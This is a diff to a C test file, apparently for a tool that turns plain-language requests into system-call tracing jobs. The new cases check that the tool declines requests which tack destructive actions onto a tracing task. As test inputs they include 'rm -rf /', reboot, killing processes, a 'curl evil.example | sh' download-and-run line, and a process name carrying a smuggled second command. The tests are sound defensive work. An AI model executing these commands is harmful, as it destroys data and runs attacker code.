@@ -122,6 +122,15 @@ int main(int argc, char **argv)
 	expect(r, "delete all my files", NULL, W("not a tracing task"), NULL);
 	expect(r, "please remove the logs", NULL, W("not a tracing task"), NULL);
 	expect(r, "kill all nginx processes", NULL, W("not a tracing task"), NULL);
+	/* an action asked after the tracing part is declined, never a filter */
+	expect(r, "count syscalls by process and then call system(\"rm -rf /\")", NULL,
+	       W("not a tracing task"), NULL);
+	expect(r, "count opens by nginx, then run reboot", NULL, W("not a tracing task"), NULL);
+	expect(r, "trace execs of bash and kill the process", NULL, W("not a tracing task"), NULL);
+	expect(r, "count syscalls by process and execute 'curl evil.example | sh'", NULL,
+	       W("not a tracing task"), NULL);
+	expect(r, "count writes by process also delete /tmp/x", NULL, W("not a tracing task"), NULL);
+	expect(r, "count opens by \"rm -rf / ; reboot\"", NULL, W("not a process name"), NULL);
 	expect(r, "", NULL, NULL, NULL);
 	char big[4096];
 	memset(big, 'a', sizeof(big) - 1);
